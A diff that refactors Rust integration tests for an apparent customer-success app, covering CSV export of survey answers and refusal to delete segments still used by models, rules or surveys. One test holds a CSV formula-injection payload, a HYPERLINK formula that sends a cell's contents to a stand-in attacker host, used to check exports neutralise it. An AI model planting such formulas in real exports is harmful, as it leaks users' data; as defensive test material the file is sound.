@@ -12,27 +12,14 @@ const FORMULA_STARTS: &[char] = &['=', '+', '-', '@', '\t', '\r'];
 
 #[tokio::test]
 async fn formulas_planted_through_an_anonymous_survey_are_inert_in_the_csv_export() {
-    let app = spawn_app().await;
-    let admin = admin(&app).await;
-    let csm = user_with_role(&app, &admin, "csm").await;
+    let (app, _admin, csm) = app_with_csm().await;
     let acc = create_account(&csm, "Formula Co", "enterprise").await;
     let prompt = "What should we build next?";
-    let (s, survey) = csm
-        .call(
-            "surveys/create",
-            &[
-                ("input[name]", "Event CSAT"),
-                ("input[kind]", "csat"),
-                ("input[audience]", "accounts"),
-                ("input[ids][0]", &acc),
-                ("input[questions][0][prompt]", prompt),
-                ("input[questions][0][kind]", "text"),
-            ],
-        )
-        .await;
+    let question = [("input[questions][0][prompt]", prompt), ("input[questions][0][kind]", "text")];
+    let (s, survey) = create_survey_with(&csm, "Event CSAT", "csat", &[&acc], &question).await;
     assert_eq!(s, StatusCode::OK, "{survey}");
-    let sid = survey["id"].as_str().unwrap();
-    let url = format!("{}/s/a/{}", app.base, survey["public_key"].as_str().unwrap());
+    let sid = id_of(&survey);
+    let url = anonymous_link(&app, &survey);
 
     // What an anonymous visitor sends, and the cell the CSM's export must hold.
     let exfiltrate = r#"=HYPERLINK("https://evil.example/?d="&H2,"x")"#;
@@ -95,15 +82,8 @@ async fn formulas_planted_through_an_anonymous_survey_are_inert_in_the_csv_expor
 
 // ---- settings pulled out from under their users ---------------------------------------------
 
-async fn save_segment(c: &Client, name: &str, query: &str) -> String {
-    let b = c.ok("segments/save", &[("name", name), ("query", query)]).await;
-    b["id"].as_str().unwrap().to_string()
-}
-
 async fn segment_ids(c: &Client) -> Vec<String> {
-    let (s, b) = c.call("segments/list", &[]).await;
-    assert_eq!(s, StatusCode::OK, "{b}");
-    b.as_array().unwrap().iter().map(|s| s["id"].as_str().unwrap().to_string()).collect()
+    c.ok("segments/list", &[]).await.as_array().unwrap().iter().map(id_of).collect()
 }
 
 /// Tries to delete `id`: refused with 409, a message naming each of `users`, and still there.
@@ -120,25 +100,12 @@ async fn refused_while_used(c: &Client, id: &str, users: &[&str]) -> String {
 
 async fn give_segment_a_health_model(admin: &Client, segment: &str) {
     let ed = admin.ok("health/editor", &[("scope", segment)]).await;
-    assert_eq!(
-        admin
-            .post_json(
-                "health/save_model",
-                &json!({ "scope": segment, "config": ed["model"]["config"] })
-            )
-            .await
-            .status(),
-        StatusCode::OK
-    );
+    let model = json!({ "scope": segment, "config": ed["model"]["config"] });
+    admin.expect_json(StatusCode::OK, "health/save_model", &model).await;
 }
 
 async fn add_qbr_rule(admin: &Client, segment: &str) {
-    admin
-        .ok(
-            "engagement/rules/add",
-            &[("input[segment_id]", segment), ("input[kind]", "qbr"), ("input[every_days]", "90")],
-        )
-        .await;
+    admin.ok("engagement/rules/add", &cadence_rule_form(segment, "qbr", "90")).await;
 }
 
 /// A survey of a segment's contacts; `recurrence_months` blank for a one-off. Returns its id.
@@ -164,9 +131,7 @@ async fn close_survey(c: &Client, id: &str) {
 
 #[tokio::test]
 async fn a_csm_cannot_delete_a_segment_that_a_model_a_rule_or_a_live_survey_uses() {
-    let app = spawn_app().await;
-    let admin = admin(&app).await;
-    let csm = user_with_role(&app, &admin, "csm").await;
+    let (app, admin, csm) = app_with_csm().await;
 
     // Used by an admin's health model.
     let modelled = save_segment(&csm, "Enterprise", "tier=enterprise").await;
@@ -195,8 +160,7 @@ async fn a_csm_cannot_delete_a_segment_that_a_model_a_rule_or_a_live_survey_uses
     );
     let (s, _) = admin.call("health/retire_model", &[("scope", modelled.as_str())]).await;
     assert_eq!(s, StatusCode::NOT_FOUND, "nothing left to retire");
-    let (s, b) = csm.call("segments/delete", &[("id", &modelled)]).await;
-    assert_eq!(s, StatusCode::OK, "{b}");
+    csm.ok("segments/delete", &[("id", &modelled)]).await;
 
     // Used by an admin's cadence rule; once the rule is gone, the segment may go.
     let ruled = save_segment(&csm, "Big renewals", "tier=enterprise&stage=renewal").await;
@@ -207,17 +171,14 @@ async fn a_csm_cannot_delete_a_segment_that_a_model_a_rule_or_a_live_survey_uses
         &["the cadence rule “Quarterly business review every 90 days”"],
     )
     .await;
-    let (s, rules) = admin.call("engagement/rules", &[]).await;
-    assert_eq!(s, StatusCode::OK, "{rules}");
+    let rules = admin.ok("engagement/rules", &[]).await;
     let rule =
         rules.as_array().unwrap().iter().find(|r| r["segment_id"] == ruled.as_str()).unwrap()["id"]
             .as_str()
             .unwrap()
             .to_string();
-    let (s, b) = admin.call("engagement/rules/remove", &[("id", &rule)]).await;
-    assert_eq!(s, StatusCode::OK, "{b}");
-    let (s, b) = csm.call("segments/delete", &[("id", &ruled)]).await;
-    assert_eq!(s, StatusCode::OK, "{b}");
+    admin.ok("engagement/rules/remove", &[("id", &rule)]).await;
+    csm.ok("segments/delete", &[("id", &ruled)]).await;
     assert!(!segment_ids(&csm).await.contains(&ruled));
 
     // Used by a recurring survey: refused even while the survey is closed, since reopening it
@@ -234,8 +195,7 @@ async fn a_csm_cannot_delete_a_segment_that_a_model_a_rule_or_a_live_survey_uses
     let one_off = segment_survey(&csm, "Launch CSAT", &one_off_segment, "").await;
     refused_while_used(&csm, &one_off_segment, &["the survey “Launch CSAT”"]).await;
     close_survey(&csm, &one_off).await;
-    let (s, b) = csm.call("segments/delete", &[("id", &one_off_segment)]).await;
-    assert_eq!(s, StatusCode::OK, "{b}");
+    csm.ok("segments/delete", &[("id", &one_off_segment)]).await;
 
     // Everything at once: one sentence naming each user.
     let shared = save_segment(&csm, "Strategic", "tier=enterprise&stage=growth").await;
